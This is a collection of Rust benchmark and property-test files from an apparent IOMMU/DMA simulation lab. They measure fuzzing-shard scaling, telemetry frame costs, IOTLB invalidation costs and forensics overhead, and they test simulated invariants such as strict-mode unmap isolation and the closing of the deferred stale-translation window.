        // Every input the engine ran counts — campaign iterations plus
        // the minimizer's signature-preserving probes — matching how
        // the cold baseline is charged (one timed row per execution).
        let all_execs = report.execs + report.minimize_execs;
        let per_exec = run_ns / all_execs.max(1);
        timing.push(BenchResult {
            group: "scale".into(),
            id: format!("shards_{shards}"),
            iters: all_execs,
            ns_per_iter: per_exec,
            throughput: Some(Throughput::Elements(1)),
        });
        timing.push(BenchResult {
            group: "scale".into(),
            id: format!("merge_{shards}"),
            iters: 1,
            ns_per_iter: merge_ns,
            throughput: None,
        });
        eprintln!(
            "== {shards} shard(s) x {ITERS} iters on {used} thread(s): \
             {all_execs} execs, {} bits, {per_exec} ns/exec, merge {merge_ns} ns ==",
            report.coverage_bits
        );
        rows.push(Row {
            shards,
            threads: used,
            execs: report.execs,
            minimize_execs: report.minimize_execs,
            total_cycles: report.total_cycles,
            coverage_bits: report.coverage_bits,
            corpus_entries: report.corpus.len(),
            finding_classes: report.findings.len(),
            run_ns,
            merge_ns,
        });
    }

    // Thread-identity verdict: the 8-shard merged report must not
    // depend on how many OS threads carried the shards.
    let t1 = ShardedCampaign::new(ShardConfig::new(SEED, ITERS, 8, 1))
        .run()
        .expect("T=1 run");
    let t8 = ShardedCampaign::new(ShardConfig::new(SEED, ITERS, 8, 8))
        .run()
        .expect("T=8 run");
    let identity = if t1.to_json() == t8.to_json() {
        "byte-identical"
    } else {
        "MISMATCH"
    };
    eprintln!("== 8-shard merged report, T=1 vs T=8: {identity} ==");

    let mut det = JsonWriter::new();
    det.obj(|w| {
        w.field_u64("seed", SEED);
        w.field_u64("iters_per_shard", ITERS);
        w.field_u64("host_threads", threads as u64);
        w.field_str("thread_identity", identity);
        w.field("rows", |w| {
            w.arr(|w| {
                for r in &rows {
                    w.elem(|w| {
                        w.obj(|w| {
                            w.field_u64("shards", u64::from(r.shards));
                            w.field_u64("execs", r.execs);
                            w.field_u64("minimize_execs", r.minimize_execs);
                            w.field_u64("coverage_bits", u64::from(r.coverage_bits));
                            w.field_u64("corpus_entries", r.corpus_entries as u64);
                            w.field_u64("finding_classes", r.finding_classes as u64);
                            w.field_u64("total_cycles", r.total_cycles);
                        });
                    });
                }
            });
        });
    });

    let mut scale = JsonWriter::new();
    scale.arr(|w| {
        for r in &rows {
            w.elem(|w| {
                w.obj(|w| {
                    w.field_u64("shards", u64::from(r.shards));
                    w.field_u64("threads", r.threads as u64);
                    let secs = r.run_ns.max(1) as f64 / 1e9;
                    let all_execs = r.execs + r.minimize_execs;
                    w.field_f64("execs_per_sec", all_execs as f64 / secs);
                    w.field_f64("sim_cycles_per_sec", r.total_cycles as f64 / secs);
                    w.field_u64("merge_ns", r.merge_ns);
                    let per_exec = r.run_ns / all_execs.max(1);
                    w.field_f64("speedup_vs_cold_x", cold_ns as f64 / per_exec.max(1) as f64);
                });
            });
        }
    });

    let path = bench::emit_scale_report(&det.finish(), &scale.finish(), &timing)
        .expect("write BENCH_scale.json");
    eprintln!("report written: {}", path.display());
    if identity == "MISMATCH" {
        eprintln!("thread-identity check failed");
        std::process::exit(1);
    }
}
