//! Telemetry-service cost model: what one `dma-lab serve` frame costs
//! and how much the delta encoding saves over full snapshots, exported
//! to `BENCH_serve.json`.
//!
//! Timing rows:
//! - `stats_full_frame` — serving one full-snapshot `stats` frame.
//! - `stats_delta_frame` — serving one `{"mode":"delta"}` frame against
//!   the connection's previous baseline.
//! - `step_frame` — advancing the campaign one iteration and draining
//!   its event frames.
//! - `posture_sweep` — the four-config posture audit.
//!
//! The deterministic half replays the pinned scripted session twice and
//! records the byte-identity verdict plus the snapshot-vs-delta frame
//! sizes the `delta_ratio` figure is derived from.

use criterion::{criterion_group, Criterion};
use dma_core::jsonw::JsonWriter;
use dma_lab::serve::{ConnState, Flow, ServeConfig, Server};

/// The pinned campaign every surface shares (CI smoke, README, tests).
const SEED: u64 = 7;

/// A warmed server: the campaign has stepped enough for metrics and
/// findings to exist, so stats frames are representative.
fn warmed_server(steps: u64) -> Server {
    let mut server = Server::new(ServeConfig::new(SEED, 10_000)).expect("server");
    let mut conn = ConnState::default();
    let mut out = Vec::new();
    let flow = server.handle_line(
        &format!("{{\"req\":\"step\",\"n\":{steps}}}"),
        &mut conn,
        &mut out,
    );
    assert!(matches!(flow, Flow::Continue));
    server
}

fn one_frame(server: &mut Server, conn: &mut ConnState, req: &str) -> Vec<String> {
    let mut out = Vec::new();
    let flow = server.handle_line(req, conn, &mut out);
    assert!(matches!(flow, Flow::Continue), "{req} did not continue");
    out
}

fn bench_frames(c: &mut Criterion) {
    let mut g = c.benchmark_group("serve");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(1));

    {
        let mut server = warmed_server(64);
        let mut conn = ConnState::default();
        g.bench_function("stats_full_frame", |b| {
            b.iter(|| std::hint::black_box(one_frame(&mut server, &mut conn, r#"{"req":"stats"}"#)))
        });
    }
    {
        let mut server = warmed_server(64);
        let mut conn = ConnState::default();
        // Establish the baseline once; every measured frame is a delta.
        one_frame(&mut server, &mut conn, r#"{"req":"stats"}"#);
        g.bench_function("stats_delta_frame", |b| {
            b.iter(|| {
                std::hint::black_box(one_frame(
                    &mut server,
                    &mut conn,
                    r#"{"req":"stats","mode":"delta"}"#,
                ))
            })
        });
    }
    {
        let mut server = warmed_server(8);
        let mut conn = ConnState::default();
        g.bench_function("step_frame", |b| {
            b.iter(|| {
                std::hint::black_box(one_frame(&mut server, &mut conn, r#"{"req":"step","n":1}"#))
            })
        });
    }
    {
        let mut server = warmed_server(8);
        let mut conn = ConnState::default();
        g.bench_function("posture_sweep", |b| {
            b.iter(|| {
                std::hint::black_box(one_frame(&mut server, &mut conn, r#"{"req":"posture"}"#))
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench_frames);

/// The scripted session both deterministic runs replay.
const SCRIPT: &str = "\
{\"req\":\"hello\"}
{\"req\":\"step\",\"n\":48}
{\"req\":\"stats\"}
{\"req\":\"step\",\"n\":16}
{\"req\":\"stats\",\"mode\":\"delta\"}
{\"req\":\"health\"}
{\"req\":\"posture\"}
{\"req\":\"shutdown\"}
";

/// Snapshot-vs-delta sizes from one warmed connection: a full stats
/// frame, the idle delta straight after it (nothing changed — the
/// common polling case), then four more iterations and the active
/// delta against the same baseline.
fn frame_sizes() -> (u64, u64, u64) {
    let bytes = |frames: Vec<String>| frames.iter().map(|f| f.len() as u64).sum::<u64>();
    let mut server = warmed_server(64);
    let mut conn = ConnState::default();
    let full = bytes(one_frame(&mut server, &mut conn, r#"{"req":"stats"}"#));
    let idle = bytes(one_frame(
        &mut server,
        &mut conn,
        r#"{"req":"stats","mode":"delta"}"#,
    ));
    one_frame(&mut server, &mut conn, r#"{"req":"step","n":4}"#);
    let active = bytes(one_frame(
        &mut server,
        &mut conn,
        r#"{"req":"stats","mode":"delta"}"#,
    ));
    (full, idle, active)
}

fn main() {
    let mut c = benches();

    // Deterministic half: two seeded replays of the pinned script must
    // produce byte-identical transcripts.
    let transcript = |seed| {
        let mut server = Server::new(ServeConfig::new(seed, 10_000)).expect("server");
        server.run_script(SCRIPT)
    };
    let a = transcript(SEED);
    let b = transcript(SEED);
    let identical = a == b;
    assert!(identical, "seeded serve transcripts diverged");
    let frames = a.lines().count() as u64;

    let (full_bytes, idle_bytes, active_bytes) = frame_sizes();
    eprintln!(
        "== transcript: {frames} frames, byte-identical={identical}; \
         stats full={full_bytes}B delta idle={idle_bytes}B active={active_bytes}B ==",
    );

    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_u64("seed", SEED);
        w.field_u64("script_requests", SCRIPT.lines().count() as u64);
        w.field_u64("transcript_frames", frames);
        w.field_u64("transcript_bytes", a.len() as u64);
        w.field_bool("byte_identical", identical);
        w.field_u64("stats_full_bytes", full_bytes);
        w.field_u64("stats_delta_idle_bytes", idle_bytes);
        w.field_u64("stats_delta_active_bytes", active_bytes);
        if full_bytes > 0 {
            // Active ratio: the frame a poller pays when the campaign
            // moved. Idle ratio: the (much smaller) no-change frame.
            w.field_f64("delta_ratio", active_bytes as f64 / full_bytes as f64);
            w.field_f64("delta_idle_ratio", idle_bytes as f64 / full_bytes as f64);
        }
    });
    let deterministic = w.finish();

    let results = c.take_results();
    let path = bench::emit_serve_report(&deterministic, &results).expect("write BENCH_serve.json");
    eprintln!("report written: {}", path.display());
}
