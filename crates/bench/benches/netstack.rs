//! Network-substrate throughput and the driver-ordering ablation
//! (Figure 7): RX packet processing under both unmap orders and both
//! IOMMU modes, GRO aggregation, and the zero-copy echo TX path.
//!
//! The paper's performance claim being reproduced: strict mode is
//! *expensive* on the RX path (per-buffer invalidations), which is why
//! deferred is the default and the window exists.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use devsim::testbed::{MemConfigLite, TestbedConfig};
use devsim::Testbed;
use sim_iommu::{InvalidationMode, IommuConfig};
use sim_net::driver::{DriverConfig, UnmapOrder};
use sim_net::packet::Packet;
use sim_net::stack::StackConfig;

fn tb(mode: InvalidationMode, order: UnmapOrder, stack: StackConfig) -> Testbed {
    Testbed::new(TestbedConfig {
        device: Default::default(),
        mem: MemConfigLite {
            kaslr_seed: Some(1),
            ..Default::default()
        },
        iommu: IommuConfig {
            mode,
            ..Default::default()
        },
        driver: DriverConfig {
            unmap_order: order,
            ..Default::default()
        },
        stack,
        boot_noise_seed: None,
    })
    .unwrap()
}

fn pump(tb: &mut Testbed, n: usize) {
    for i in 0..n {
        let p = Packet::udp(9, 1, vec![i as u8; 64]);
        tb.deliver_packet(&p).unwrap();
    }
}

fn bench_rx_path(c: &mut Criterion) {
    let mut g = c.benchmark_group("figure7_rx_path");
    g.sample_size(10);
    for (name, mode, order) in [
        (
            "deferred_unmap_then_build",
            InvalidationMode::Deferred,
            UnmapOrder::UnmapThenBuild,
        ),
        (
            "deferred_build_then_unmap",
            InvalidationMode::Deferred,
            UnmapOrder::BuildThenUnmap,
        ),
        (
            "strict_unmap_then_build",
            InvalidationMode::Strict,
            UnmapOrder::UnmapThenBuild,
        ),
    ] {
        g.bench_function(format!("rx_64_packets_{name}"), |b| {
            b.iter_batched(
                || tb(mode, order, StackConfig::default()),
                |mut t| {
                    pump(&mut t, 64);
                    std::hint::black_box(t.stack.stats.delivered)
                },
                BatchSize::SmallInput,
            )
        });
    }
    g.finish();

    // Report the simulated-cycle gap strict vs deferred for the same work.
    let mut strict = tb(
        InvalidationMode::Strict,
        UnmapOrder::UnmapThenBuild,
        StackConfig::default(),
    );
    pump(&mut strict, 256);
    let mut deferred = tb(
        InvalidationMode::Deferred,
        UnmapOrder::UnmapThenBuild,
        StackConfig::default(),
    );
    pump(&mut deferred, 256);
    eprintln!(
        "== RX 256 packets, simulated invalidation cycles: strict {} vs deferred {} ==",
        strict.iommu.stats.invalidation_cycles, deferred.iommu.stats.invalidation_cycles
    );
}

fn bench_gro_and_forwarding(c: &mut Criterion) {
    let mut g = c.benchmark_group("figure9_gro_forwarding");
    g.sample_size(10);
    g.bench_function("gro_merge_16_segment_stream", |b| {
        b.iter_batched(
            || {
                tb(
                    InvalidationMode::Deferred,
                    UnmapOrder::UnmapThenBuild,
                    StackConfig {
                        forwarding: true,
                        ..Default::default()
                    },
                )
            },
            |mut t| {
                for i in 0..16u32 {
                    let p = Packet::tcp(9, 42, i * 64, vec![i as u8; 64]);
                    t.deliver_packet(&p).unwrap();
                }
                t.stack
                    .flush(&mut t.ctx, &mut t.mem, &mut t.iommu, &mut t.driver)
                    .unwrap();
                std::hint::black_box(t.stack.stats.forwarded)
            },
            BatchSize::SmallInput,
        )
    });
    g.finish();
}

fn bench_echo_tx(c: &mut Criterion) {
    let mut g = c.benchmark_group("figure8_echo_tx");
    g.sample_size(10);
    g.bench_function("zero_copy_echo_roundtrip", |b| {
        b.iter_batched(
            || {
                tb(
                    InvalidationMode::Deferred,
                    UnmapOrder::UnmapThenBuild,
                    StackConfig {
                        echo_service: true,
                        ..Default::default()
                    },
                )
            },
            |mut t| {
                for i in 0..32u32 {
                    let p = Packet::udp(9, 1, vec![i as u8; 256]);
                    t.deliver_packet(&p).unwrap();
                    if i % 8 == 7 {
                        t.complete_all_tx().unwrap();
                    }
                }
                t.complete_all_tx().unwrap();
                std::hint::black_box(t.stack.stats.echoed)
            },
            BatchSize::SmallInput,
        )
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_rx_path,
    bench_gro_and_forwarding,
    bench_echo_tx
);
criterion_main!(benches);
