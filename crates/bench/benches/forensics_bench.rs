//! Flight-recorder overhead and provenance-graph cost: how much the
//! bounded ring buffer costs relative to the unbounded trace baseline,
//! how fast the causal graph ingests an event stream, and how expensive
//! one incident investigation is. The deterministic half — the pinned
//! forensics campaign — plus the timing rows land in
//! `BENCH_forensics.json`.

use criterion::{criterion_group, Criterion};
use dma_core::{ProvenanceGraph, SimCtx};
use fuzz::run_forensics;

/// The pinned campaign every surface shares (CI, README, tests).
const SEED: u64 = 7;
const ITERS: u64 = 96;

/// Events pushed per emit-benchmark iteration — enough to wrap the
/// bounded ring several times.
const STREAM: usize = 4096;

fn bench_emit(c: &mut Criterion) {
    let events = bench::synth_events(STREAM);
    let mut g = c.benchmark_group("forensics");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(STREAM as u64));
    g.bench_function("emit_unbounded", |b| {
        b.iter(|| {
            let mut ctx = SimCtx::traced();
            ctx.trace.record_cpu_access = true;
            for ev in &events {
                ctx.emit(ev.clone());
            }
            std::hint::black_box(ctx.trace.len())
        })
    });
    g.bench_function("emit_recorded_1024", |b| {
        b.iter(|| {
            let mut ctx = SimCtx::recorded(1024);
            ctx.trace.record_cpu_access = true;
            for ev in &events {
                ctx.emit(ev.clone());
            }
            std::hint::black_box(ctx.trace.dropped())
        })
    });
    g.finish();
}

fn bench_graph(c: &mut Criterion) {
    let events = bench::synth_events(STREAM);
    let mut g = c.benchmark_group("forensics");
    g.sample_size(10);
    g.throughput(criterion::Throughput::Elements(STREAM as u64));
    g.bench_function("graph_ingest", |b| {
        b.iter(|| {
            let mut graph = ProvenanceGraph::new();
            graph.ingest_all(events.iter().cloned());
            std::hint::black_box(graph.edge_count())
        })
    });
    g.finish();
}

fn bench_investigate(c: &mut Criterion) {
    // One forensic execution of the campaign's first iteration; the
    // benchmark then re-investigates its findings against the graph.
    let input = fuzz::FuzzInput::generate(SEED, 0);
    let run = fuzz::execute_with_forensics(&input).expect("forensic exec");
    let findings: Vec<_> = run.incidents.iter().map(|i| i.finding.clone()).collect();
    assert!(!findings.is_empty(), "iteration 0 must produce findings");
    let mut g = c.benchmark_group("forensics");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(findings.len() as u64));
    g.bench_function("investigate_findings", |b| {
        b.iter(|| {
            let n: usize = findings
                .iter()
                .map(|f| dkasan::investigate(&run.graph, f).steps.len())
                .sum();
            std::hint::black_box(n)
        })
    });
    g.finish();
}

criterion_group!(benches, bench_emit, bench_graph, bench_investigate);

fn main() {
    let mut c = benches();
    let report = run_forensics(SEED, ITERS).expect("pinned campaign");
    eprintln!(
        "== forensics campaign (seed {SEED}, {ITERS} iters): {} incident classes, {} callbacks, {} dropped ==",
        report.cases.len(),
        report.callbacks.len(),
        report.trace_dropped
    );
    let results = c.take_results();
    let path = bench::emit_forensics_report(&report, &results).expect("write BENCH_forensics.json");
    eprintln!("report written: {}", path.display());
}
