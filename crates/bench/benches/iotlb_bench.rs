//! IOTLB behavior under load: hit/miss cost, strict-vs-deferred
//! invalidation, and the §5.2.1 stale-window series — with the
//! deterministic simulated-cycle snapshots exported alongside the
//! wall-clock numbers via `BENCH_observability.json`.

use bench::{iommu_setup, iotlb_series_json, one_io};
use criterion::{criterion_group, BatchSize, Criterion, Throughput};
use dma_core::vuln::DmaDirection;
use sim_iommu::{dma_map_single, dma_unmap_single, InvalidationMode};

const SERIES_IOS: usize = 500;

fn bench_hit_vs_miss(c: &mut Criterion) {
    let mut g = c.benchmark_group("iotlb");
    g.sample_size(20);
    g.throughput(Throughput::Elements(1));
    // Hot path: repeated device access to one warm mapping.
    g.bench_function("dev_write_hot_entry", |b| {
        let (mut ctx, mut mem, mut iommu) = iommu_setup(InvalidationMode::Strict);
        let buf = mem.kmalloc(&mut ctx, 2048, "io").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            buf,
            2048,
            DmaDirection::FromDevice,
            "m",
        )
        .unwrap();
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"warm")
            .unwrap();
        b.iter(|| {
            iommu
                .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"payload")
                .unwrap()
        })
    });
    // Cold path: every iteration maps a fresh IOVA, forcing a walk.
    g.bench_function("dev_write_cold_walk", |b| {
        let (mut ctx, mut mem, mut iommu) = iommu_setup(InvalidationMode::Strict);
        let buf = mem.kmalloc(&mut ctx, 2048, "io").unwrap();
        b.iter(|| {
            let m = dma_map_single(
                &mut ctx,
                &mut iommu,
                &mem.layout,
                1,
                buf,
                2048,
                DmaDirection::FromDevice,
                "m",
            )
            .unwrap();
            iommu
                .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"payload")
                .unwrap();
            dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
        })
    });
    g.finish();
}

fn bench_invalidation_modes(c: &mut Criterion) {
    let mut g = c.benchmark_group("iotlb_invalidation");
    g.sample_size(10);
    g.throughput(Throughput::Elements(64));
    for (name, mode) in [
        ("strict", InvalidationMode::Strict),
        ("deferred", InvalidationMode::Deferred),
    ] {
        g.bench_function(format!("io_cycle_64_{name}"), |b| {
            b.iter_batched(
                || iommu_setup(mode),
                |(mut ctx, mut mem, mut iommu)| {
                    for _ in 0..64 {
                        one_io(&mut ctx, &mut mem, &mut iommu);
                    }
                },
                BatchSize::SmallInput,
            )
        });
    }
    g.finish();
}

criterion_group!(benches, bench_hit_vs_miss, bench_invalidation_modes);

fn main() {
    let mut c = benches();
    let det = vec![
        (
            "strict_series",
            iotlb_series_json(InvalidationMode::Strict, SERIES_IOS),
        ),
        (
            "deferred_series",
            iotlb_series_json(InvalidationMode::Deferred, SERIES_IOS),
        ),
    ];
    let results = c.take_results();
    let path = bench::emit_section("iotlb", &det, &results).expect("write bench section");
    eprintln!("section written: {}", path.display());
}
