//! Property-style tests for the IOMMU: page-table consistency under
//! arbitrary map/unmap sequences, IOVA allocator disjointness, IOTLB
//! coherence rules, and the central security invariant — a device can
//! never reach an unmapped frame in strict mode.
//!
//! Inputs are generated from the in-tree seeded `DetRng` (no external
//! property-testing framework) so the suite builds offline.

use dma_core::vuln::DmaDirection;
use dma_core::{AccessRight, DetRng, Iova, Pfn, SimCtx, PAGE_SIZE};
use sim_iommu::{
    dma_map_single, dma_unmap_single, InvalidationMode, IoPageTable, Iommu, IommuConfig,
    IovaAllocator,
};
use sim_mem::{MemConfig, MemorySystem};
use std::collections::HashMap;

const CASES: usize = 64;

#[test]
fn page_table_matches_reference_model() {
    let mut meta = DetRng::new(0x31);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut pt = IoPageTable::new();
        let mut model: HashMap<u64, u64> = HashMap::new();
        let nops = rng.range(1, 199) as usize;
        for _ in 0..nops {
            let page = rng.below(256);
            let pfn = rng.below(64);
            let do_unmap = rng.chance(1, 2);
            let iova = Iova(page * PAGE_SIZE as u64);
            if do_unmap {
                let expect = model.remove(&page);
                let got = pt.unmap(iova).ok().map(|e| e.pfn.raw());
                assert_eq!(got, expect, "case {case}");
            } else {
                let ok = pt.map(iova, Pfn(pfn), AccessRight::Write).is_ok();
                assert_eq!(ok, !model.contains_key(&page), "case {case}");
                if ok {
                    model.insert(page, pfn);
                }
            }
            assert_eq!(pt.mapped_pages(), model.len(), "case {case}");
        }
        // Final walk agreement.
        for (page, pfn) in model {
            assert_eq!(
                pt.walk(Iova(page * PAGE_SIZE as u64)).map(|e| e.pfn.raw()),
                Some(pfn),
                "case {case}"
            );
        }
    }
}

#[test]
fn iova_ranges_are_disjoint() {
    let mut meta = DetRng::new(0x32);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut a = IovaAllocator::new();
        let mut ranges: Vec<(u64, u64)> = Vec::new();
        let n = rng.range(1, 79) as usize;
        for _ in 0..n {
            let pages = rng.range(1, 63) as usize;
            if let Ok(base) = a.alloc(pages) {
                let span = (pages * PAGE_SIZE) as u64;
                for &(s, e) in &ranges {
                    assert!(base.raw() + span <= s || base.raw() >= e, "case {case}");
                }
                ranges.push((base.raw(), base.raw() + span));
            }
        }
    }
}

#[test]
fn iova_free_realloc_cycles() {
    let mut meta = DetRng::new(0x33);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut a = IovaAllocator::new();
        let mut live: Vec<(Iova, usize)> = Vec::new();
        let nops = rng.range(1, 119) as usize;
        for _ in 0..nops {
            let pages = rng.range(1, 15) as usize;
            if rng.chance(1, 2) && !live.is_empty() {
                let (base, n) = live.swap_remove(0);
                a.free(base, n).unwrap();
            } else if let Ok(base) = a.alloc(pages) {
                live.push((base, pages));
            }
        }
        assert_eq!(a.live_ranges(), live.len(), "case {case}");
    }
}

#[test]
fn strict_mode_never_leaks_unmapped_frames() {
    // The central security property: after strict unmap, access via
    // the dead IOVA always faults, and access to live mappings always
    // succeeds.
    let mut meta = DetRng::new(0x34);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(1);
        let mut live = Vec::new();
        let mut dead = Vec::new();
        let nops = rng.range(1, 59) as usize;
        for _ in 0..nops {
            let len = rng.range(1, 1999) as usize;
            if rng.chance(1, 2) && !live.is_empty() {
                let m: sim_iommu::DmaMapping = live.swap_remove(0);
                dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
                dead.push(m);
            } else {
                let buf = mem.kmalloc(&mut ctx, len, "prop").unwrap();
                let m = dma_map_single(
                    &mut ctx,
                    &mut iommu,
                    &mem.layout,
                    1,
                    buf,
                    len,
                    DmaDirection::Bidirectional,
                    "prop",
                )
                .unwrap();
                live.push(m);
            }
        }
        let mut b = [0u8; 1];
        for m in &live {
            assert!(
                iommu
                    .dev_read(&mut ctx, &mem.phys, 1, m.iova, &mut b)
                    .is_ok(),
                "case {case}"
            );
        }
        // A dead IOVA may have been *recycled* to a live mapping (correct
        // allocator behaviour); only never-recycled dead IOVAs must fault.
        let live_pages: std::collections::HashSet<u64> = live
            .iter()
            .flat_map(|m| {
                (0..m.pages as u64)
                    .map(move |i| m.iova.page_align_down().raw() + i * PAGE_SIZE as u64)
            })
            .collect();
        for m in &dead {
            if !live_pages.contains(&m.iova.page_align_down().raw()) {
                assert!(
                    iommu
                        .dev_read(&mut ctx, &mem.phys, 1, m.iova, &mut b)
                        .is_err(),
                    "case {case}"
                );
            }
        }
    }
}

#[test]
fn device_writes_land_exactly_where_mapped() {
    let mut meta = DetRng::new(0x35);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig::default());
        iommu.attach_device(1);
        let len = rng.range(1, 2047) as usize;
        let off = rng.below(1024) as usize;
        let mut data = vec![0u8; rng.range(1, 63) as usize];
        rng.fill_bytes(&mut data);
        let size = len.max(off + data.len());
        let buf = mem.kmalloc(&mut ctx, size, "prop").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            buf,
            size,
            DmaDirection::FromDevice,
            "prop",
        )
        .unwrap();
        iommu
            .dev_write(
                &mut ctx,
                &mut mem.phys,
                1,
                Iova(m.iova.raw() + off as u64),
                &data,
            )
            .unwrap();
        let mut back = vec![0u8; data.len()];
        mem.cpu_read(
            &mut ctx,
            dma_core::Kva(buf.raw() + off as u64),
            &mut back,
            "prop",
        )
        .unwrap();
        assert_eq!(back, data, "case {case} off={off}");
    }
}

#[test]
fn deferred_window_always_closes() {
    // Whatever the timing, a stale translation must be dead after
    // one full flush period.
    let mut meta = DetRng::new(0x36);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let latency_us = rng.below(20_000);
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Deferred,
            ..Default::default()
        });
        iommu.attach_device(1);
        let buf = mem.kmalloc(&mut ctx, 512, "prop").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            1,
            buf,
            512,
            DmaDirection::FromDevice,
            "prop",
        )
        .unwrap();
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"x")
            .unwrap();
        dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
        ctx.clock.advance_us(latency_us);
        let poked = iommu.dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"y");
        // Within the window it may succeed; past it, it must not.
        if latency_us > 10_000 {
            assert!(poked.is_err(), "case {case} latency={latency_us}");
        }
        ctx.clock.advance_us(10_001);
        assert!(
            iommu
                .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"z")
                .is_err(),
            "case {case} latency={latency_us}"
        );
    }
}
