//! Property-based tests for the IOMMU: page-table consistency under
//! arbitrary map/unmap sequences, IOVA allocator disjointness, IOTLB
//! coherence rules, and the central security invariant — a device can
//! never reach an unmapped frame in strict mode.

use dma_core::vuln::DmaDirection;
use dma_core::{AccessRight, Iova, Pfn, SimCtx, PAGE_SIZE};
use proptest::prelude::*;
use sim_iommu::{
    dma_map_single, dma_unmap_single, InvalidationMode, IoPageTable, Iommu, IommuConfig,
    IovaAllocator,
};
use sim_mem::{MemConfig, MemorySystem};
use std::collections::HashMap;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn page_table_matches_reference_model(ops in proptest::collection::vec((0u64..256, 0u64..64, any::<bool>()), 1..200)) {
        let mut pt = IoPageTable::new();
        let mut model: HashMap<u64, u64> = HashMap::new();
        for (page, pfn, do_unmap) in ops {
            let iova = Iova(page * PAGE_SIZE as u64);
            if do_unmap {
                let expect = model.remove(&page);
                let got = pt.unmap(iova).ok().map(|e| e.pfn.raw());
                prop_assert_eq!(got, expect);
            } else {
                let ok = pt.map(iova, Pfn(pfn), AccessRight::Write).is_ok();
                prop_assert_eq!(ok, !model.contains_key(&page));
                if ok {
                    model.insert(page, pfn);
                }
            }
            prop_assert_eq!(pt.mapped_pages(), model.len());
        }
        // Final walk agreement.
        for (page, pfn) in model {
            prop_assert_eq!(pt.walk(Iova(page * PAGE_SIZE as u64)).map(|e| e.pfn.raw()), Some(pfn));
        }
    }

    #[test]
    fn iova_ranges_are_disjoint(sizes in proptest::collection::vec(1usize..64, 1..80)) {
        let mut a = IovaAllocator::new();
        let mut ranges: Vec<(u64, u64)> = Vec::new();
        for pages in sizes {
            if let Ok(base) = a.alloc(pages) {
                let span = (pages * PAGE_SIZE) as u64;
                for &(s, e) in &ranges {
                    prop_assert!(base.raw() + span <= s || base.raw() >= e);
                }
                ranges.push((base.raw(), base.raw() + span));
            }
        }
    }

    #[test]
    fn iova_free_realloc_cycles(ops in proptest::collection::vec((1usize..16, any::<bool>()), 1..120)) {
        let mut a = IovaAllocator::new();
        let mut live: Vec<(Iova, usize)> = Vec::new();
        for (pages, do_free) in ops {
            if do_free && !live.is_empty() {
                let (base, n) = live.swap_remove(0);
                a.free(base, n).unwrap();
            } else if let Ok(base) = a.alloc(pages) {
                live.push((base, pages));
            }
        }
        prop_assert_eq!(a.live_ranges(), live.len());
    }

    #[test]
    fn strict_mode_never_leaks_unmapped_frames(
        seeds in proptest::collection::vec((1usize..2000, any::<bool>()), 1..60)
    ) {
        // The central security property: after strict unmap, access via
        // the dead IOVA always faults, and access to live mappings always
        // succeeds.
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig { mode: InvalidationMode::Strict, ..Default::default() });
        iommu.attach_device(1);
        let mut live = Vec::new();
        let mut dead = Vec::new();
        for (len, do_unmap) in seeds {
            if do_unmap && !live.is_empty() {
                let m: sim_iommu::DmaMapping = live.swap_remove(0);
                dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
                dead.push(m);
            } else {
                let buf = mem.kmalloc(&mut ctx, len, "prop").unwrap();
                let m = dma_map_single(&mut ctx, &mut iommu, &mem.layout, 1, buf, len, DmaDirection::Bidirectional, "prop").unwrap();
                live.push(m);
            }
        }
        let mut b = [0u8; 1];
        for m in &live {
            prop_assert!(iommu.dev_read(&mut ctx, &mem.phys, 1, m.iova, &mut b).is_ok());
        }
        // A dead IOVA may have been *recycled* to a live mapping (correct
        // allocator behaviour); only never-recycled dead IOVAs must fault.
        let live_pages: std::collections::HashSet<u64> = live
            .iter()
            .flat_map(|m| {
                (0..m.pages as u64).map(move |i| m.iova.page_align_down().raw() + i * PAGE_SIZE as u64)
            })
            .collect();
        for m in &dead {
            if !live_pages.contains(&m.iova.page_align_down().raw()) {
                prop_assert!(iommu.dev_read(&mut ctx, &mem.phys, 1, m.iova, &mut b).is_err());
            }
        }
    }

    #[test]
    fn device_writes_land_exactly_where_mapped(
        len in 1usize..2048,
        off in 0usize..1024,
        data in proptest::collection::vec(any::<u8>(), 1..64),
    ) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig::default());
        iommu.attach_device(1);
        let size = len.max(off + data.len());
        let buf = mem.kmalloc(&mut ctx, size, "prop").unwrap();
